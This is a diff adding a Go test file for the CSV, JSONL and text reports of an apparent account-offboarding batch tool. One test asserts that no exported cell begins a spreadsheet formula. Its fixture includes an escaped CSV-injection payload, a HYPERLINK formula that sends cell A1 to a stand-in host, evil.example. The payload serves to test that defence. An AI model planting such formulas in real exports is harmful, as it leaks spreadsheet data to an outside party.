@@ -1,0 +1,200 @@
+package report
+
+import (
+	"bytes"
+	"encoding/csv"
+	"encoding/json"
+	"flag"
+	"io"
+	"os"
+	"path/filepath"
+	"slices"
+	"strings"
+	"testing"
+
+	"offboard/batch"
+)
+
+var update = flag.Bool("update", false, "write the golden files anew")
+
+func TestGolden(t *testing.T) {
+	format := func(f Format) func(io.Writer) error {
+		return func(w io.Writer) error { return f(w, fixtureMeta(), seq(fixture(), nil)) }
+	}
+	for name, write := range map[string]func(io.Writer) error{
+		"report.csv":   format(CSV),
+		"report.jsonl": format(JSONL),
+		"retry.csv":    format(Retry),
+		"end.txt":      func(w io.Writer) error { return Text(w, fixtureEnd()) },
+		"end.json":     func(w io.Writer) error { return JSON(w, fixtureEnd()) },
+	} {
+		t.Run(name, func(t *testing.T) {
+			var got bytes.Buffer
+			if err := write(&got); err != nil {
+				t.Fatal(err)
+			}
+			path := filepath.Join("..", "testdata", "report", name)
+			if *update {
+				if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
+					t.Fatal(err)
+				}
+				if err := os.WriteFile(path, got.Bytes(), 0o644); err != nil {
+					t.Fatal(err)
+				}
+			}
+			want, err := os.ReadFile(path)
+			if err != nil {
+				t.Fatal(err)
+			}
+			if !bytes.Equal(got.Bytes(), want) {
+				t.Errorf("%s differs; got:\n%s", path, got.Bytes())
+			}
+		})
+	}
+}
+
+// The golden files hold only what the fixture shows, so it must show it all.
+func TestFixtureHasEveryOutcome(t *testing.T) {
+	e := fixtureEnd()
+	for _, o := range batch.Outcomes {
+		if e.Summary.Counts[o] == 0 {
+			t.Errorf("no line ends as %s", o)
+		}
+	}
+	if e.missing() != 0 || e.Summary.Lines != e.Plan.Rows {
+		t.Errorf("the plan has %d rows, the fixture %d", e.Plan.Rows, e.Summary.Lines)
+	}
+}
+
+func TestColumnsAreAsPromised(t *testing.T) {
+	const want = "line,input,user_id,user_principal_name,user_type,outcome,http_status,error_code,error_message," +
+		"attempts,throttles,sent_at,settled_at,valid_from_before,valid_from_after,request_id,reason"
+	var names []string
+	for _, c := range columns {
+		names = append(names, c.name)
+	}
+	if got := strings.Join(names, ","); got != want {
+		t.Errorf("got  %s\nwant %s", got, want)
+	}
+}
+
+// What a spreadsheet or grep sees: one line a row, no formula in any cell, by
+// whatever sign it splits the lines.
+func TestCSVIsSafeToOpen(t *testing.T) {
+	for name, f := range map[string]Format{"report.csv": CSV, "retry.csv": Retry} {
+		var b bytes.Buffer
+		if err := f(&b, fixtureMeta(), seq(fixture(), nil)); err != nil {
+			t.Fatal(err)
+		}
+		r := csv.NewReader(bytes.NewReader(b.Bytes()))
+		r.FieldsPerRecord = -1
+		records, err := r.ReadAll()
+		if err != nil {
+			t.Fatal(err)
+		}
+		if n := bytes.Count(b.Bytes(), []byte("\n")); n != len(records) {
+			t.Errorf("%s: %d lines for %d records", name, n, len(records))
+		}
+		var cells []string
+		for _, rec := range records {
+			cells = append(cells, rec...)
+		}
+		cells = append(cells, strings.FieldsFunc(b.String(), func(r rune) bool { return r == ';' || r == '\n' })...)
+		for _, c := range cells {
+			if bare := strings.TrimLeft(c, ` "`); bare != "" && strings.ContainsAny(bare[:1], "=+-@\t\r") {
+				t.Errorf("%s: a cell begins a formula: %q", name, c)
+			}
+		}
+	}
+}
+
+func TestRetryHoldsOnlyWhatFailedOnce(t *testing.T) {
+	var b bytes.Buffer
+	if err := Retry(&b, fixtureMeta(), seq(fixture(), nil)); err != nil {
+		t.Fatal(err)
+	}
+	r := csv.NewReader(&b)
+	r.FieldsPerRecord = -1
+	records, err := r.ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	var keys, known []string
+	for i, rec := range records {
+		switch {
+		case len(rec) == 2:
+			keys = append(keys, rec[0])
+		case len(rec) == 3 && blank(rec[:2]...):
+			known = append(known, rec[2])
+		default:
+			t.Errorf("record %d: %q", i, rec)
+		}
+	}
+	want := []string{
+		"User name [userPrincipalName] Required",
+		"fay@contoso.com", "eve_fabrikam.com#EXT#@contoso.onmicrosoft.com", "ida?contoso", "gone@contoso.com", "1007",
+		"admin@contoso.com", "hal@contoso.com", "jo@contoso.com", "kim@contoso.com", "lee@contoso.com",
+		`'=HYPERLINK("http://evil.example/?"&A1,"click")`, "' -1+1 next", "o'neil@contoso.com",
+	}
+	if !slices.Equal(keys, want) {
+		t.Errorf("got  %q\nwant %q", keys, want)
+	}
+	if want := []string{"Müller, Ümit", "line 23"}; !slices.Equal(known, want) {
+		t.Errorf("got  %q of rows without cells, want %q", known, want)
+	}
+}
+
+func TestRetryNeedsColumns(t *testing.T) {
+	err := Retry(io.Discard, Meta{}, seq(fixture(), nil))
+	if err == nil || !strings.Contains(err.Error(), "the plan names no columns") {
+		t.Errorf("got %v", err)
+	}
+}
+
+func TestJSONAddsUp(t *testing.T) {
+	e := fixtureEnd()
+	e.Summary.Add("from the future")
+	var b bytes.Buffer
+	if err := JSON(&b, e); err != nil {
+		t.Fatal(err)
+	}
+	var doc struct {
+		Lines, Success, Neutral, Failure, Open int
+		Counts                                 map[string]int
+	}
+	if err := json.Unmarshal(b.Bytes(), &doc); err != nil {
+		t.Fatal(err)
+	}
+	sum := 0
+	for _, n := range doc.Counts {
+		sum += n
+	}
+	if sum != doc.Lines || doc.Success+doc.Neutral+doc.Failure != doc.Lines || doc.Lines != 23 {
+		t.Errorf("%+v does not add up", doc)
+	}
+	if len(doc.Counts) != len(batch.Outcomes)+1 || doc.Open != 2 {
+		t.Errorf("%+v", doc)
+	}
+}
+
+// A run with nothing to say still gives every key, null where there is none.
+func TestJSONOfNothing(t *testing.T) {
+	var b bytes.Buffer
+	if err := JSON(&b, End{}); err != nil {
+		t.Fatal(err)
+	}
+	var doc map[string]any
+	if err := json.Unmarshal(b.Bytes(), &doc); err != nil {
+		t.Fatal(err)
+	}
+	for _, key := range []string{"created_at", "written_at", "report_dir", "resume"} {
+		if v, ok := doc[key]; !ok || v != nil {
+			t.Errorf("%s is %v, %v", key, v, ok)
+		}
+	}
+	for _, key := range []string{"files", "settings"} {
+		if v, ok := doc[key].([]any); !ok || len(v) != 0 {
+			t.Errorf("%s is %v", key, doc[key])
+		}
+	}
+}
